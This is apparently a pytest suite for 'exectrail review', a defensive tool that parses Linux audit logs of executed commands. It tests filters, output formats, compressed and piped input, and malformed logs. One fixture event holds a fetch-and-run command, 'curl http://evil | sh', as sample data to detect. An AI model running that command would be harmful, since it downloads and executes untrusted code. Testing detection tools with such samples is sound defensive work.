"""``exectrail review``: every option and every kind of bad input, through the real entry point."""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.cli import run_cli
from tests.support.kernel_format import log_lines

T0 = 1795608000  # 2026-11-25T12:00:00Z


def _event(offset: int, serial: int, argv: list[bytes] | None, **kw: object) -> list[bytes]:
    return log_lines(f"{T0 + offset}.250", serial, argv, enriched=True, **kw)


@pytest.fixture
def log(tmp_path: Path) -> Path:
    lines = [
        *_event(0, 1, [b"ls", b"-la", b"/tmp"], pid=100, ppid=1, comm=b"ls", exe=b"/usr/bin/ls"),
        *_event(
            60,
            2,
            [b"/bin/echo", b"x\ny", b"\xff\xfe"],
            pid=101,
            ppid=100,
            uid=1000,
            auid=1000,
            comm=b"echo",
            exe=b"/usr/bin/echo",
            key=b"other",
        ),
        *_event(
            120, 3, None, pid=102, ppid=100, success=False, exit_code=-2, comm=b"bash", exe=b"/usr/bin/bash"
        ),
        *_event(
            3600,
            4,
            [b"sh", b"-c", b"curl http://evil | sh"],
            pid=103,
            ppid=101,
            comm=b"sh",
            exe=b"/usr/bin/dash",
        ),
    ]
    path = tmp_path / "audit.log"
    path.write_bytes(b"".join(lines))
    return path


def run(*args: str, stdin: bytes | None = None) -> tuple[int, list[dict[str, object]], str]:
    result = run_cli(["review", "--format", "jsonl", *args], input=stdin)
    events = [json.loads(line) for line in result.stdout.splitlines() if line.startswith('{"type":"exec"')]
    return result.exit_code, events, result.stderr


def pids(args: list[str], log: Path) -> list[int]:
    code, events, _ = run(*args, str(log))
    assert code == 0
    return [int(e["pid"]) for e in events]  # type: ignore[call-overload]


def test_jsonl_schema(log: Path) -> None:
    code, events, err = run(str(log))
    assert code == 0
    assert len(events) == 4
    first, second, failed = events[0], events[1], events[2]
    assert first["time"] == "2026-11-25T12:00:00.250Z"
    assert first["argv"] == ["ls", "-la", "/tmp"] and "argv_hex" not in first
    assert (first["auid"], first["ses"], first["tty"], first["node"]) == (None, None, None, None)
    assert (first["arch"], first["syscall"], first["success"], first["serial"]) == (
        "x86_64",
        "execve",
        True,
        1,
    )
    assert second["argv"] == ["/bin/echo", "x\ny", "\ufffd\ufffd"]
    assert second["argv_hex"] == ["2f62696e2f6563686f", "780a79", "fffe"]
    assert (failed["argv"], failed["argc"], failed["exit"], failed["success"]) == (None, None, -2, False)
    assert "4 events shown, 4 read" in err


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--pid", "101"], [101]),
        (["--pid", "100,103"], [100, 103]),
        (["--ppid", "100"], [101, 102]),
        (["--uid", "1000"], [101]),
        (["--auid", "1000"], [101]),
        (["--auid", "unset"], [100, 102, 103]),
        (["--comm", "sh"], [103]),
        (["--exe", "/usr/bin/*"], [100, 101, 102, 103]),
        (["--exe", "/usr/bin/dash"], [103]),
        (["--key", "other"], [101]),
        (["--success", "no"], [102]),
        (["--success", "yes", "--ppid", "100"], [101]),
        (["--start", "2026-11-25T12:01:00Z"], [101, 102, 103]),
        (["--end", "2026-11-25T12:01:30+00:00"], [100, 101]),
        (["--start", "@1795608060", "--end", "@1795608200"], [101, 102]),
        (["--argv-contains", "evil | sh"], [103]),
        (["--argv-contains", "x\ny"], [101]),
    ],
)
def test_filters(log: Path, args: list[str], expected: list[int]) -> None:
    assert pids(args, log) == expected


def test_time_words(log: Path) -> None:
    assert pids(["--start", "recent"], log) == []
    assert pids(["--end", "now", "--start", "this-year"], log) == [100, 101, 102, 103]
    code, _, err = run("--start", "next tuesday", str(log))
    assert code == 2 and "cannot read time 'next tuesday'" in err


def test_csv_and_table(log: Path) -> None:
    result = run_cli(["review", "--format", "csv", str(log)])
    rows = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["type"] == "exec"]
    assert rows[3]["argv"] == "sh -c 'curl http://evil | sh'"
    assert rows[1]["argv_hex"] == "2f62696e2f6563686f 780a79 fffe"
    table = run_cli(["review", "--format", "table", str(log)], env={"COLUMNS": "200"})
    assert "curl http://evil | sh" in table.stdout
    assert "$'x\\ny'" in table.stdout


def test_gzip_stdin_and_several_files(log: Path, tmp_path: Path) -> None:
    gz = tmp_path / "audit.log.1.gz"
    gz.write_bytes(gzip.compress(log.read_bytes()))
    code, events, _ = run(str(gz), "-", stdin=log.read_bytes())
    assert code == 0 and len(events) == 8


@pytest.mark.parametrize("command", ["review", "alarms"])
def test_a_pipe_named_as_a_file_is_read_once(log: Path, command: str) -> None:
    """``<(zcat …)`` gives a /dev/fd path the scan reads; the line checks cannot read it again and
    skip it, as they skip stdin (this was an internal error: a pipe is not seekable)."""
    piped = subprocess.run(
        [
            "bash",
            "-c",
            f'"$0" -m exectrail.cli.main {command} <(cat "$1") --format jsonl',
            sys.executable,
            str(log),
        ],
        capture_output=True,
    )
    stdin = subprocess.run(
        [sys.executable, "-m", "exectrail.cli.main", command, "-", "--format", "jsonl"],
        input=log.read_bytes(),
        capture_output=True,
    )
    assert b"internal error" not in piped.stderr and b"Traceback" not in piped.stderr
    assert piped.returncode == stdin.returncode
    bodies = [[json.loads(line) for line in out.stdout.splitlines()] for out in (piped, stdin)]
    events = [[b for b in found if b["type"] == "exec"] for found in bodies]
    kinds = [[b["kind"] for b in found if b["type"] == "alarm"] for found in bodies]
    assert events[0] == events[1] and kinds[0] == kinds[1]  # alarms name the file: /dev/fd/N, stdin
    assert bool(events[0]) == (command == "review") and kinds[0]


def test_default_format_is_jsonl_when_piped(log: Path) -> None:
    out = subprocess.run(
        [sys.executable, "-m", "exectrail.cli.main", "review", str(log)], capture_output=True
    )
    assert out.returncode == 0
    assert out.stdout.startswith(b'{"type":"exec"')


BAD_INPUTS = {
    "truncated": lambda good: good[: len(good) - 37],
    "garbage": lambda good: b"\x00\x01binary\xff\xfe\n" + good + b"hello\nworld\n",
    "huge-line": lambda good: good + b"type=EXECVE msg=audit(1.000:1): " + b"A" * 10_000_000 + b"\n" + good,
    "unknown-types": lambda good: (
        b"type=UNKNOWN[4242] msg=audit(1795617600.001:9): x=1\n"
        b"type=FANCY_NEW msg=audit(1795617600.001:10): y=2\n" + good
    ),
    "execve-without-syscall": lambda good: (
        b'type=EXECVE msg=audit(1795617000.000:77): argc=1 a0="ls"\n' + good
    ),
}


@pytest.mark.parametrize("kind", sorted(BAD_INPUTS))
def test_bad_input_keeps_good_events(log: Path, tmp_path: Path, kind: str) -> None:
    bad = tmp_path / f"{kind}.log"
    bad.write_bytes(BAD_INPUTS[kind](log.read_bytes()))
    proc = subprocess.run(
        [sys.executable, "-m", "exectrail.cli.main", "review", "--format", "jsonl", "-v", str(bad)],
        capture_output=True,
    )
    assert b"Traceback" not in proc.stderr
    assert proc.returncode == 0, proc.stderr
    events = [json.loads(line) for line in proc.stdout.splitlines()]
    assert len(events) >= 4 if kind != "truncated" else len(events) >= 3
    assert b"events shown" in proc.stderr
    if kind == "garbage":
        assert b"3 malformed-line" in proc.stderr and f"{bad}:1: malformed-line".encode() in proc.stderr
    if kind == "execve-without-syscall":
        assert b"1 execve-without-syscall" in proc.stderr


@pytest.mark.parametrize(
    ("make", "message", "code"),
    [
        (lambda p: p / "missing.log", "missing.log: no such file", 2),
        (lambda p: p, "is a directory", 2),
    ],
)
def test_unreadable_inputs_are_one_line_errors(tmp_path: Path, make, message: str, code: int) -> None:  # type: ignore[no-untyped-def]
    proc = subprocess.run(
        [sys.executable, "-m", "exectrail.cli.main", "review", str(make(tmp_path))],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == code
    assert message in proc.stderr and "Traceback" not in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


def test_not_an_audit_log(tmp_path: Path) -> None:
    path = tmp_path / "passwd"
    path.write_text("root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534::/:/usr/sbin/nologin\n")
    cmd = [sys.executable, "-m", "exectrail.cli.main", "review", str(path)]
    proc = subprocess.run(cmd, capture_output=True, text=True)
    assert proc.returncode == 1
    assert "not an audit log (2 lines, none is an audit record)" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_truncated_gzip_keeps_what_was_read(log: Path, tmp_path: Path) -> None:
    gz = gzip.compress(log.read_bytes() * 200)
    path = tmp_path / "cut.log.gz"
    path.write_bytes(gz[: len(gz) // 2])
    code, events, err = run(str(path))
    assert code == 1
    assert 0 < len(events) < 800
    assert "truncated compressed file" in err


def test_default_paths_are_rotations_oldest_first(tmp_path: Path) -> None:
    from exectrail.parse.logfile import default_log_paths

    for name in ("audit.log", "audit.log.1", "audit.log.2.gz", "audit.log.10"):
        (tmp_path / name).write_bytes(b"")
    names = [p.name for p in default_log_paths(tmp_path / "audit.log")]
    assert names == ["audit.log.10", "audit.log.2.gz", "audit.log.1", "audit.log"]
